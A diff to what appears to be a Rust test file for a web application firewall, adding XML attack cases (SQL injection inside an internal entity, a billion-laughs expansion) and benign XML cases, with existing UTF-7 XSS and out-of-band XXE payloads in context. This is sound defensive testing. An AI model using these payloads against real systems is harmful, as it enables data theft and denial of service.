@@ -96,6 +96,10 @@ pub const ATTACKS: &[Case] = &[
         MULTIPART,
         "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n--XyZ--\r\n",
     ),
+    // Entities are read as libxml2 reads them (xml_dtd.rs): what an internal one carries is
+    // inspected, and an expansion past the bounds is refused.
+    post("sqli: in an XML internal entity", "/api", "application/xml", r#"<?xml version="1.0"?><!DOCTYPE n [<!ENTITY q "1' union select password from users--">]><n><q>&q;</q></n>"#),
+    post("xml: billion laughs", "/api", "application/xml", r#"<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lollollollollollollollollollol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]><l>&f;</l>"#),
     post("xxe: out of band", "/api", "application/xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ENTITY % remote SYSTEM \"http://203.0.113.9/x.dtd\">\n%remote; ]>\n<xml><test>hello</test></xml>"),
 ];
 
@@ -140,6 +144,18 @@ pub const BENIGN: &[Case] = &[
         "/upload",
         MULTIPART,
         "--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nSee you on Monday.\r\n--XyZ--\r\n",
+    ),
+    post(
+        "benign: XHTML with its DTD's entities",
+        "/pages",
+        "application/xml",
+        "<?xml version=\"1.0\"?>\n<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Tom&nbsp;and&nbsp;Jerry &copy; 2026</p></body></html>",
+    ),
+    post(
+        "benign: XML with an internal entity",
+        "/notes",
+        "application/xml",
+        "<?xml version=\"1.0\"?>\n<!DOCTYPE note [<!ENTITY company \"Example Ltd\">]>\n<note><to>Tove</to><from>&company;</from></note>",
     ),
     post("benign: XML", "/soap", "application/xml", "<?xml version=\"1.0\"?><order><id>42</id><note>Tom &amp; Jerry</note></order>"),
     // Namespaces and a self-closing element: every SOAP envelope was refused (941130 on
